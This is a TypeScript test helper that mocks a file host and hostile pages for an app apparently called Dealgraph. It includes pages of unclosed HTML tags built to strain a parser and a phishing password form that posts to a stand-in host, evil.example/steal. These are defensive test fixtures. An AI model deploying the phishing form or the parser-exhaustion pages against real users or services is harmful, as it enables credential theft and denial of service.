// The "files" family of test/helpers/document-hosts.ts: a host Dealgraph does not recognise
// (files.example.net) serving files directly, and pages built to hurt an HTML parser (5 MB of tags
// that never close), plus another site (evil.example) a hostile form may point at.
import { docxFile, LEDGERLY_DECK } from "./decks.ts";
import type { Handler } from "./document-hosts.ts";

// ---- An unknown host: files served directly, and pages built to hurt a parser ----
/** Just under the 5 MB a page may have: hostile, but not refused for its size. */
const PAGE_CHARS = 5 * 1024 * 1024 - 1024;
const htmlPage = (body: string, status = 200) => new Response(body, { status, headers: { "content-type": "text/html; charset=utf-8" } });
/** `unit` repeated to fill a page after `lead`. */
const filled = (lead: string, unit: string) => lead + unit.repeat(Math.floor((PAGE_CHARS - lead.length) / unit.length));

/** Paths of the unknown host (files.example.net) tests name. */
export const FILES = {
  /** A page of `<input` tags none of which is closed. */
  unclosedInputs: "https://files.example.net/hostile/unclosed-inputs",
  /** A password field, then forms and inputs that never close. */
  gateThenForms: "https://files.example.net/hostile/gate-then-forms",
  oversizePage: "https://files.example.net/hostile/oversize",
  /** A password form that posts to another site (evil.example). */
  foreignForm: "https://files.example.net/phish",
  /** A PDF without a Content-Disposition, under a name whose percent-encoding is broken. */
  brokenName: "https://files.example.net/deck%E0%A4%A.pdf",
  pdf: "https://files.example.net/deck.pdf",
  docx: "https://files.example.net/memo.docx",
  /** Never answers. */
  hang: "https://files.example.net/hang.pdf",
} as const;

export const files: Handler = ({ url, host, world }) => {
  const p = url.pathname;
  if (host === "evil.example") return htmlPage("<p>Thanks</p>");
  if (p === "/hostile/unclosed-inputs") return htmlPage(filled("<html><body>", "<input a=b "));
  if (p === "/hostile/gate-then-forms") return htmlPage(filled(`<html><body><p>Enter the password</p><input type="password" name="pw">`, "<form><input "));
  if (p === "/hostile/oversize") return htmlPage(`<html><body>${"<p>Ledgerly builds payroll APIs.</p>".repeat(200_000)}</body></html>`);
  if (p === "/phish") return htmlPage(`<h1>Protected</h1><form method="post" action="https://evil.example/steal"><input type="password" name="password"><input type="submit"></form>`);
  if (p === "/deck%E0%A4%A.pdf") return new Response(world.pdf, { headers: { "content-type": "application/pdf" } });
  if (p === "/deck.pdf") return new Response(world.pdf, { headers: { "content-type": "application/pdf", "content-disposition": 'attachment; filename="Ledgerly deck.pdf"' } });
  if (p === "/memo.docx") {
    return new Response(docxFile(LEDGERLY_DECK), {
      headers: { "content-type": "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "content-disposition": 'attachment; filename="Ledgerly memo.docx"' },
    });
  }
  if (p === "/hang.pdf") return new Promise<Response>(() => {});
  return htmlPage("<h1>Not found</h1>", 404);
};

